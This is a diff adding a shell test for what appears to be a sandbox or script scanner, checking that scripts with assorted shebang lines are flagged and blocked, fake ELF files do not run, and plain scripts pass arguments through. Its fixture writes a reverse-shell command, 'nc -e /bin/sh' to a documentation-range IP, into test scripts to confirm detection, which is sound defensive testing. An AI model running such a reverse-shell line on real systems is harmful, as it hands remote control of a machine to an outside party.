@@ -36,6 +36,25 @@ teardown() {
         [ "$status" -eq 125 ]
 }
 
+@test "exec: a text that sh runs is scanned as one, whatever its name and first line" {
+        cp /bin/sh mysh
+        for first in '' '#!/usr/bin/nice sh' '#!/lib64/ld-linux-x86-64.so.2 /bin/sh' '#!./mysh' '#!/usr/bin/../../bin/sh' '#!'; do
+                printf '%s\necho st""arted; nc -e /bin/sh 192.0.2.1 1\n' "$first" >text && chmod +x text
+                run "$HUTCH_BUILD/hutch" exec text
+                [[ $status -eq 125 && $output == *"text:2:"*"shell-reverse-shell"* && $output != *started* ]] || { echo "$first: $output"; return 1; }
+        done
+        printf '\177ELF\necho st""arted\n' >elf && printf '\177ELF\0\necho st""arted\n' >elf0 && chmod +x elf elf0
+        for iso in namespace landlock none; do
+                for f in elf elf0; do
+                        run "$HUTCH_BUILD/hutch" exec --isolation $iso $f
+                        [[ $status -ne 0 && $output != *started* ]] || { echo "$iso $f: $output"; return 1; }
+                done
+        done
+        printf 'echo fine "$@"\n' >plain && chmod +x plain
+        run "$HUTCH_BUILD/hutch" exec plain 'a  b'
+        [ "$output" = 'fine a  b' ]
+}
+
 @test "exec: the workspace is read-only" {
         printf 'touch new 2>/dev/null || echo no\n' >a.sh
         run "$HUTCH_BUILD/hutch" exec a.sh
